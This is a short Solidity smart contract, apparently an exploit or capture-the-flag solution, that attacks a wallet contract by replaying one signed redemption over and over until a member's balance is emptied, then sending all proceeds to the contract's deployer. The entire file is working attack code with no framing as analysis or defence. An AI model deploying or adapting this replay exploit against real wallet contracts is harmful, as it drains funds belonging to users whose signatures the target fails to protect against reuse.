// SPDX-License-Identifier: MIT
pragma solidity ^0.8.26;

interface IWallet {
    function redeem(address member, address payable to, uint256 amount, uint256 expiry, bytes calldata sig) external;
    function balanceOf(address member) external view returns (uint256);
}

contract Redeemer {
    address payable private immutable owner = payable(msg.sender);

    function run(IWallet w, address member, uint256 amount, uint256 expiry, bytes calldata sig) external {
        while (w.balanceOf(member) >= amount) {
            w.redeem(member, payable(address(this)), amount, expiry, sig);
        }
        owner.transfer(address(this).balance);
    }

    receive() external payable {}
}
